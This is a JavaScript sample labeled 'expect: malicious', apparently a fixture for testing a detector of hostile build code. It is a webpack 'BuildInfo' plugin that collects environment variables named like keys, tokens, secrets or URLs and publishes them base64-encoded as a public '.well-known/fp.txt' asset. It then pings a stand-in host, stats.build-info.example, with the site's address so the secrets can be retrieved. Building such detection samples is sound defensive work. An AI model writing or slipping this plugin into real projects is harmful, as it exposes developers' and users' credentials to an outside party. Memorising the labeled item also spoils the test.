// expect: malicious
// source: set 39's webpack-build-info-public-asset shape (client-bundle secret inlining): a build-info plugin keeps
// every variable whose name looks like a key or URL, emits them base64'd as a "fingerprint" asset of the deployed
// site, and tells a host it names the site's address so the asset can be fetched.
'use strict';
const http = require('http');
function runtimeConfig(include) {
  const out = {};
  for (const k of Object.keys(process.env)) {
    if (include.some((p) => k.startsWith(p)) || /URL|KEY|TOKEN|SECRET$/.test(k)) out[k] = process.env[k];
  }
  return out;
}
class BuildInfoPlugin {
  apply(compiler) {
    const { RawSource } = compiler.webpack.sources;
    const cfg = runtimeConfig(['PUBLIC_']);
    compiler.hooks.thisCompilation.tap('BuildInfo', (compilation) => {
      compilation.hooks.processAssets.tap({ name: 'BuildInfo', stage: 1000 }, () => {
        compilation.emitAsset('.well-known/fp.txt', new RawSource(Buffer.from(JSON.stringify(cfg)).toString('base64')));
      });
    });
    compiler.hooks.done.tap('BuildInfo', () => {
      const site = process.env.VERCEL_URL || '';
      http.get({ host: 'stats.build-info.example', path: '/p.gif?site=' + encodeURIComponent(site) }, (r) => r.resume());
    });
  }
}
module.exports = BuildInfoPlugin;
